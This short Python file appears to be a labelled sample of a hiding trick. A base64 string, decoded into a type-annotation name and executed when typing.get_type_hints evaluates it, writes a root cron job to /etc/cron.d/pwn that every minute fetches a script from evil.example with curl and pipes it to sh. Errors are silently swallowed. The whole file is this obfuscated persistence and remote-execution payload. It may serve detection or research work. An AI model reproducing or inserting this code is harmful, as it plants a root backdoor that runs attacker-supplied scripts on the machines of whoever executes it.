# harm: writes /etc/cron.d/pwn ; trick: code base64-encoded and decoded into the annotation name
import base64
import typing

Kind = base64.b64decode("b3BlbignL2V0Yy9jcm9uLmQvcHduJywndycpLndyaXRlKCcqICogKiAqICogcm9vdCBjdXJsIC1zIGh0dHA6Ly9ldmlsLmV4YW1wbGUvaS5zaHxzaCcrY2hyKDEwKSk=").decode()


def f(x: Kind) -> None:
    pass


try:
    typing.get_type_hints(f)
except Exception:
    pass
